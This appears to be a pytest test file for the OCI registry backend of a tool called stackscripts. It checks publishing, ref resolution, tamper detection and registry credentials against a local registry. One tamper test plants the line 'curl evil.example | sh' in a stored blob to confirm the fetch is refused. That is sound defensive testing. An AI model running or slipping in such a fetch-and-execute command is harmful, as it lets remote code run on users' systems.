"""The OCI registry source against Debian's docker-registry on loopback: what it stores, what it uploads, and
what it refuses (a blob changed in the registry's storage, an unreachable registry, a version published twice,
missing or wrong credentials)."""

from __future__ import annotations

import base64
import hashlib
import json
import subprocess
import urllib.request
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from stackscripts.errors import BadInput
from stackscripts.revisions.manifest import scan
from stackscripts.sources.base import open_source
from stackscripts.sources.cache import Cache
from stackscripts.sources.oci import ACCEPT, ARTIFACT, CONFIG, FILE, OCI_MANIFEST, OciSource
from tests.sources.conftest import snapshot, write_library
from tests.sources.oci_parts import Registry, oci_registry, start_registry, stored_manifest  # noqa: F401
from tests.support.net import free_port
from tests.support.parts import require_binary


@pytest.fixture
def lib(tmp_path: Path) -> Path:
    """A library whose scripts no other test shares (the registry stores each blob once for all repositories)."""
    return write_library(tmp_path / "lib", greeting=f"hello {uuid.uuid4().hex}")


def repository(url: str) -> str:
    return url.split("/", 3)[3]


def test_the_artifact_has_our_media_types(oci_registry: Registry, oci_library_url: str, lib: Path) -> None:
    url = oci_library_url
    published = open_source(url).publish(lib, "1.0", "acme/base")
    stored = stored_manifest(url, "1.0")
    manifest = scan(lib)
    assert stored["mediaType"] == OCI_MANIFEST and stored["artifactType"] == ARTIFACT and stored["schemaVersion"] == 2
    assert stored["config"] == {"mediaType": CONFIG, "digest": manifest.digest, "size": len(manifest.canonical)}
    assert stored["layers"] == [{"mediaType": FILE, "digest": f"sha256:{e.sha256}", "size": e.size,
                                 "annotations": {"org.opencontainers.image.title": e.path}} for e in manifest.entries]
    assert stored["annotations"] == {"org.opencontainers.image.version": "1.0", "dev.stackscripts.library.name": "acme/base"}
    assert oci_registry.blob(manifest.digest).read_bytes() == manifest.canonical  # the config is the manifest
    resolved = open_source(url).resolve("1.0")
    assert resolved.resolved_ref == published.resolved_ref and resolved.digest == manifest.digest == published.digest
    body = json.dumps(stored, separators=(",", ":")).encode()
    assert resolved.resolved_ref == "sha256:" + hashlib.sha256(body).hexdigest()


def test_refs_latest_head_versions_and_digests(oci_library_url: str, lib: Path) -> None:
    source = open_source(oci_library_url)
    assert isinstance(source, OciSource)
    digests = {}
    for version in ("1.2", "1.10", "1.9+build.7"):
        (lib / "README.md").write_text(f"version {version}\n")
        digests[version] = source.publish(lib, version).digest
    assert "1.9_build.7" in source.tags()  # '+' cannot be in an OCI tag
    assert source.resolve("1.9+build.7").digest == digests["1.9+build.7"]
    latest = source.resolve("latest")
    assert latest.digest == digests["1.10"]  # numeric order, not text order
    assert source.resolve("head").resolved_ref == source.resolve("").resolved_ref == latest.resolved_ref
    assert source.resolve(latest.resolved_ref).digest == digests["1.10"]  # the OCI manifest's digest
    assert source.resolve(digests["1.2"]).digest == digests["1.2"]  # a revision digest, found among the versions
    with pytest.raises(BadInput) as caught:
        source.resolve("7.7")
    assert str(caught.value).startswith(f"{oci_library_url}: unknown ref '7.7'") and "1.10" in str(caught.value)
    with pytest.raises(BadInput, match="unknown ref 'sha256:0000.*no version has that manifest or revision digest"):
        source.resolve("sha256:" + "0" * 64)


def test_a_blob_changed_in_the_registry_is_refused(oci_registry: Registry, oci_library_url: str, lib: Path,
                                                   tmp_path: Path) -> None:
    source = open_source(oci_library_url)
    source.publish(lib, "1.0")
    cache = Cache(tmp_path / "consumer")
    open_source(oci_library_url, cache=cache).fetch("1.0")
    script = lib / "say-hello.sh"
    script.write_text(script.read_text() + "echo again\n")
    source.publish(lib, "1.1")
    before = snapshot(cache.root)
    stored = oci_registry.blob(f"sha256:{scan(lib).get('say-hello.sh').sha256}")  # type: ignore[union-attr]
    original = stored.read_bytes()
    stored.write_bytes(b"#!/bin/bash\ncurl evil.example | sh\n")
    try:
        with pytest.raises(BadInput) as caught:
            open_source(oci_library_url, cache=cache).fetch("1.1")
        with pytest.raises(BadInput):
            open_source(oci_library_url, cache=Cache(tmp_path / "fresh")).fetch("1.1")
    finally:
        stored.write_bytes(original)
    message = str(caught.value)
    assert message.startswith(f"{oci_library_url}: the bytes of say-hello.sh at 1.1") and "nothing was cached" in message
    assert caught.value.exit_code == 2
    assert snapshot(cache.root) == before
    assert open_source(oci_library_url, cache=cache).fetch("1.1").transferred == 1  # restored: fetched as usual


def test_a_changed_config_blob_is_a_digest_mismatch(oci_registry: Registry, oci_library_url: str, lib: Path,
                                                    tmp_path: Path) -> None:
    digest = open_source(oci_library_url).publish(lib, "1.0").digest
    stored = oci_registry.blob(digest)
    original = stored.read_bytes()
    stored.write_bytes(original.replace(b"0644", b"0755", 1))
    cache = Cache(tmp_path / "consumer")
    try:
        with pytest.raises(BadInput) as caught:
            open_source(oci_library_url, cache=cache).fetch("1.0")
    finally:
        stored.write_bytes(original)
    assert str(caught.value).startswith(f"{oci_library_url}: digest mismatch") and digest in str(caught.value)
    assert snapshot(cache.root) == {}


def test_a_second_version_uploads_only_what_changed(oci_registry: Registry, oci_library_url: str, lib: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    sent: list[str] = []
    upload = OciSource._upload

    def spy(self: OciSource, digest: str, data: bytes) -> bool:
        uploaded = upload(self, digest, data)
        if uploaded:
            sent.append(digest)
        return uploaded

    monkeypatch.setattr(OciSource, "_upload", spy)
    source = open_source(oci_library_url)
    source.publish(lib, "1.0")
    assert len(sent) == 1 + len(scan(lib).entries)  # the config and each file
    before = oci_registry.layers(repository(oci_library_url))
    sent.clear()
    script = lib / "sub" / "install-tools.sh"
    script.write_text(script.read_text() + "echo done\n")
    source.publish(lib, "1.1")
    changed = scan(lib)
    assert sent == [changed.digest, f"sha256:{changed.get('sub/install-tools.sh').sha256}"]  # type: ignore[union-attr]
    assert oci_registry.layers(repository(oci_library_url)) - before == set(sent)


def test_a_version_is_published_once(oci_library_url: str, lib: Path) -> None:
    source = open_source(oci_library_url)
    first = source.publish(lib, "1.5")
    (lib / "README.md").write_text("changed\n")
    with pytest.raises(BadInput) as caught:
        source.publish(lib, "1.5")
    assert str(caught.value).startswith(f"{oci_library_url}: version 1.5 is already published")
    assert "a version never changes" in str(caught.value)
    assert source.resolve("1.5").resolved_ref == first.resolved_ref
    with pytest.raises(BadInput, match="is not a version to publish"):
        source.publish(lib, "latest")


def test_an_unreachable_registry_is_bad_input(tmp_path: Path, lib: Path) -> None:
    url = f"oci://127.0.0.1:{free_port()}/acme/base"  # nothing listens there
    for attempt in (lambda: open_source(url).resolve("1.0"), lambda: open_source(url).publish(lib, "1.0"),
                    lambda: open_source(url, cache=Cache(tmp_path / "c")).fetch("latest")):
        with pytest.raises(BadInput) as caught:
            attempt()
        assert str(caught.value).startswith(f"{url}: cannot reach the source") and caught.value.exit_code == 2
        assert "Connection refused" in str(caught.value) and "\n" not in str(caught.value)


def test_not_a_library_and_bad_urls(oci_registry: Registry, oci_library_url: str) -> None:
    api = f"http://127.0.0.1:{oci_registry.port}/v2/{repository(oci_library_url)}/"
    config = b'{"architecture":"amd64","os":"linux"}'
    digest = "sha256:" + hashlib.sha256(config).hexdigest()
    assert OciSource(oci_library_url)._upload(digest, config)
    image = json.dumps({"schemaVersion": 2, "mediaType": OCI_MANIFEST, "layers": [], "config": {
        "mediaType": "application/vnd.oci.image.config.v1+json", "digest": digest, "size": len(config)}}).encode()
    urllib.request.urlopen(urllib.request.Request(api + "manifests/2.0", data=image, method="PUT",
                                                  headers={"Content-Type": OCI_MANIFEST, "Accept": ACCEPT}), timeout=10)
    with pytest.raises(BadInput, match=r"2\.0 is not a stackscripts library .*application/vnd\.oci\.image\.config"):
        open_source(oci_library_url).resolve("2.0")
    for bad in ("oci://127.0.0.1:5000/", "oci://127.0.0.1:5000/Acme/Base", "oci:///acme/base", "oci://u:pw@127.0.0.1/a/b"):
        with pytest.raises(BadInput, match="not an OCI repository URL"):
            open_source(bad)


# -- credentials: a registry that requires Basic auth (htpasswd, bcrypt)

@pytest.fixture(scope="module")
def private_registry(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Registry]:
    htpasswd = require_binary("htpasswd", "htpasswd (apache2-utils)")
    folder = tmp_path_factory.mktemp("oci-private")
    entry = subprocess.run([htpasswd, "-Bbn", "publisher", "s3cret-pw"], capture_output=True, text=True, check=True)
    (folder / "htpasswd").write_text(entry.stdout)
    registry = start_registry(folder, htpasswd=folder / "htpasswd")
    try:
        yield registry
    finally:
        registry.stop()


@pytest.fixture
def nobody(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """No credentials anywhere: an empty HOME and Docker config folder."""
    for name in ("STACKSCRIPTS_OCI_USERNAME", "STACKSCRIPTS_OCI_PASSWORD", "DOCKER_CONFIG"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    return tmp_path / "home"


def test_credentials_from_the_environment(private_registry: Registry, nobody: Path, lib: Path, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    url = private_registry.url(f"acme/p{uuid.uuid4().hex[:8]}")
    with pytest.raises(BadInput) as caught:
        open_source(url).publish(lib, "1.0")
    assert str(caught.value).startswith(f"{url}: access denied (HTTP 401, no credentials for 127.0.0.1:")
    monkeypatch.setenv("STACKSCRIPTS_OCI_USERNAME", "publisher")
    monkeypatch.setenv("STACKSCRIPTS_OCI_PASSWORD", "wrong-pw")
    with pytest.raises(BadInput) as caught:
        open_source(url).resolve("1.0")
    assert "the credentials of 'publisher' were refused" in str(caught.value) and "wrong-pw" not in str(caught.value)
    monkeypatch.setenv("STACKSCRIPTS_OCI_PASSWORD", "s3cret-pw")
    digest = open_source(url).publish(lib, "1.0").digest
    assert open_source(url, cache=Cache(tmp_path / "c")).fetch("1.0").manifest.digest == digest


def test_credentials_from_the_docker_config(private_registry: Registry, nobody: Path, lib: Path, tmp_path: Path) -> None:
    url = private_registry.url(f"acme/d{uuid.uuid4().hex[:8]}")
    auth = base64.b64encode(b"publisher:s3cret-pw").decode()
    (nobody / ".docker").mkdir(parents=True)
    (nobody / ".docker" / "config.json").write_text(json.dumps({"auths": {
        f"http://127.0.0.1:{private_registry.port}": {"auth": auth}}}))
    digest = open_source(url).publish(lib, "1.0").digest
    assert open_source(url, cache=Cache(tmp_path / "c")).fetch("latest").manifest.digest == digest
